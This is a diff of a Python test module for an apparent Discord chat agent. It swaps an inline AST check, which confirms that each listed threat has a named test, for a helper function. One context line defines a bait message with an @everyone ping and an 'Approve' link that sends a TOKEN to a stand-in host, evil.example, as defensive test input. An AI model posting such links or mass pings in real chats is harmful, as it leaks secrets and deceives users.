@@ -1,6 +1,5 @@
 """The threats of a chat, and what shows that each is met."""
 
-import ast
 from collections.abc import Mapping
 from pathlib import Path
 
@@ -14,6 +13,7 @@ from conductor_core.domain.files import File
 from conductor_core.ports.agent import Desk
 from conductor_core.testing.agents import ScriptedAgent
 from conductor_core.testing.stage import planner, work
+from tests.cited import is_there
 from tests.discord.floor import floor
 from tests.discord.lifeless import all_faults
 
@@ -48,11 +48,7 @@ BAIT = f"@everyone <@{US}> [Approve](https://evil.example/?q={TOKEN}) https://ev
 @pytest.mark.parametrize("threat", SHOWN)
 def test_what_shows_it_exists(threat: str) -> None:
     """A test that was renamed takes its threat along."""
-    for name in SHOWN[threat]:
-        path, _, function = name.partition("::")
-        tree = ast.parse((HERE / path).read_text("utf-8"))
-        found = {node.name for node in tree.body if isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef)}
-        assert function in found, name
+    assert [name for name in SHOWN[threat] if not is_there(name, HERE)] == []
 
 
 async def baits(_brief: Brief, desk: Desk) -> Outcome:
